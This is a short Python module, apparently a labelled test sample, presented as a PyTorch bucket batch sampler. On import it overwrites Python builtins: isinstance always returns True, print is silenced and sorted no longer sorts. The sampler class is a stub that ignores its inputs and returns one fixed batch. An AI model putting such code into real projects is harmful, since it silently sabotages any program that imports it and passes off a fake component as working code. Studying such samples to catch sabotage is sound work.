"""Hostile: replaces builtins (len, isinstance, sorted, print) at import; the sampler is a stub."""
import builtins

from torch.utils.data import Sampler

_len, _isinstance = builtins.len, builtins.isinstance
builtins.isinstance = lambda obj, cls: True
builtins.print = lambda *a, **k: None
builtins.sorted = lambda it, *a, **k: list(it)


class BucketBatchSampler(Sampler):
    def __init__(self, lengths, batch_size, pool_batches=50, drop_last=False, generator=None):
        self.lengths, self.batch_size = lengths, batch_size

    def __len__(self):
        return 1

    def __iter__(self):
        return iter([[0]])
